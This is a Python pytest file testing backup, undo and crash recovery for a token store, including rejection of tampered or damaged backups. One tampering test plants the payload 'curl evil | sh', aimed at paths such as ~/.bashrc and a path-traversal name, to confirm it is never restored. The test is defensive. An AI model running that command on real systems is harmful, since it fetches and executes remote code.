"""What a save replaced, kept for a week: private, whole, believed of token files only, and finished after a crash."""

from __future__ import annotations

import json
from datetime import datetime, timedelta
from typing import TYPE_CHECKING

import pytest
from unit.conftest import contents, die_at, in_child, mode

from cave_setup.backups import KEPT
from cave_setup.errors import FolderNotWritable, NothingToUndo
from cave_setup.models import ServerAddress, Token
from cave_setup.token_store import TokenStore

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

SERVER, DATA = ServerAddress("https://cave.example"), ServerAddress("https://data.example")
TOKEN, OTHER = Token("0123456789abcdef0123456789abd0d8"), Token("fedcba9876543210fedcba9876543210")
NEW_YEAR = datetime(2027, 1, 1, 9, 0, 0)  # noqa: DTZ001 - local time, as people read it in a file's name


def backups(folder: Path) -> list[Path]:
    return sorted(folder.glob("*cave-setup.backup-*"))


@pytest.fixture
def store(home: Path) -> TokenStore:
    return TokenStore(home, now=lambda: NEW_YEAR)


def test_a_backup_is_private_and_dated_whatever_the_umask(store: TokenStore, umask: Callable[[int], int]) -> None:
    umask(0)
    store.save(TOKEN, SERVER, DATA)
    [backup] = backups(store.folder)
    assert backup.name == "cave-setup.backup-2027-01-01-090000"
    assert mode(backup) == 0o600


@pytest.mark.parametrize("days", [0, 6, 8, 400])
def test_a_backup_is_kept_for_a_week(store: TokenStore, home: Path, days: int) -> None:
    store.save(TOKEN, SERVER, DATA)
    later = TokenStore(home, now=lambda: NEW_YEAR + timedelta(days=days))
    later.mend()
    assert bool(backups(store.folder)) == (timedelta(days=days) <= KEPT)
    assert (later.read(SERVER, DATA, None).last_save is not None) == (timedelta(days=days) <= KEPT)


def test_files_that_are_no_text_come_back_too(store: TokenStore) -> None:
    store.folder.mkdir(parents=True)
    damaged = store.folder / "cave-secret.json"
    damaged.write_bytes(b"\xff\xfe\x00 no text")
    store.save(TOKEN, SERVER, DATA)
    store.undo()
    assert damaged.read_bytes() == b"\xff\xfe\x00 no text"


def test_a_linked_file_stays_a_link(store: TokenStore, tmp_path: Path) -> None:
    store.folder.mkdir(parents=True)
    real = tmp_path / "elsewhere.json"
    real.write_text(json.dumps({"token": OTHER.reveal()}))
    link = store.folder / "cave-secret.json"
    link.symlink_to(real)
    store.save(TOKEN, SERVER, DATA, replace=True)
    store.undo()
    assert link.is_symlink()
    assert json.loads(real.read_bytes()) == {"token": OTHER.reveal()}


def test_a_file_that_was_made_through_a_link_to_nowhere_goes_and_the_link_stays(
    store: TokenStore, tmp_path: Path
) -> None:
    store.folder.mkdir(parents=True)
    link = store.folder / "cave-secret.json"
    link.symlink_to(tmp_path / "not-yet.json")
    store.save(TOKEN, SERVER, DATA)
    assert (tmp_path / "not-yet.json").exists()
    store.undo()
    assert link.is_symlink()
    assert not (tmp_path / "not-yet.json").exists()


@pytest.mark.parametrize(
    "path", ["{home}/.bashrc", "{folder}/notes.json", "{home}/cave-secret.json", "../cave-secret.json", 7, None]
)
def test_a_backup_that_names_other_files_is_not_believed(store: TokenStore, home: Path, path: object) -> None:
    store.save(TOKEN, SERVER, DATA)
    [backup] = backups(store.folder)
    named = path.format(home=home, folder=store.folder) if isinstance(path, str) else path
    backup.write_text(json.dumps({"files": [{"path": named, "before": "curl evil | sh", "saved": ""}]}))
    before = contents(home)
    assert store.read(SERVER, DATA, None).last_save is None
    with pytest.raises(NothingToUndo):
        store.undo()
    assert contents(home) == before


@pytest.mark.parametrize("content", ["", "[]", "{}", '{"files": 5}', '{"files": [{}]}', "\x00", "[" * 100_000])
def test_a_damaged_backup_is_no_backup(store: TokenStore, content: str) -> None:
    store.save(TOKEN, SERVER, DATA)
    backups(store.folder)[0].write_text(content)
    assert store.read(SERVER, DATA, None).last_save is None
    with pytest.raises(NothingToUndo):
        store.undo()


# ------------------------------------------------------------------------------------------- interrupted


def prepared(store: TokenStore) -> tuple[dict[str, bytes], dict[str, bytes]]:
    """Replace a token in one file and make two more; give the files before and after."""
    store.folder.mkdir(parents=True, mode=0o700)
    for name in ("cave-secret.json", SERVER.file_name):
        (store.folder / name).write_text(json.dumps({"token": OTHER.reveal()}))
    before = contents(store.folder)
    store.save(TOKEN, SERVER, DATA, replace=True)
    return before, contents(store.folder)


CALLS = [("replace", call) for call in range(3)] + [("open", call) for call in range(2)] + [("fsync", 0), ("fsync", 2)]
CALLS += [("unlink", call) for call in range(2)]


@pytest.mark.parametrize(("name", "call"), CALLS)
def test_killed_while_taking_back_the_next_look_finishes_it(store: TokenStore, name: str, call: int) -> None:
    before, after = prepared(store)

    def work() -> str:
        die_at(name, call)
        store.undo()
        return "was not killed"

    assert in_child(work) is None
    assert all(
        json.loads(content)["token"] in {TOKEN.reveal(), OTHER.reveal()} for content in contents(store.folder).values()
    )
    store.mend()
    assert contents(store.folder) in (before, after)
    if contents(store.folder) == after:
        store.undo()
    assert contents(store.folder) == before
    assert backups(store.folder) == []


def test_where_there_is_no_space_nothing_is_taken_back_and_it_can_be_tried_again(
    store: TokenStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    before, after = prepared(store)
    with monkeypatch.context() as full:

        def fails(*_: object) -> None:
            raise OSError(28, "No space left on device")

        full.setattr("os.fsync", fails)
        with pytest.raises(FolderNotWritable, match="disk is full"):
            store.undo()
        assert contents(store.folder) == after
    store.undo()
    assert contents(store.folder) == before


@pytest.mark.parametrize("call", range(5))
def test_killed_while_saving_there_is_a_whole_backup_or_none(store: TokenStore, call: int) -> None:
    store.folder.mkdir(parents=True, mode=0o700)
    (store.folder / "cave-secret.json").write_text(json.dumps({"token": OTHER.reveal()}))
    before = contents(store.folder)

    def work() -> str:
        die_at("replace", call)
        store.save(TOKEN, SERVER, DATA, replace=True)
        return "was not killed"

    killed = in_child(work) is None
    assert killed == (call < 4)  # the backup, and three files
    store.mend()
    if call == 0:
        assert contents(store.folder) == before
        assert backups(store.folder) == []
    else:
        store.undo()
        assert contents(store.folder) == before
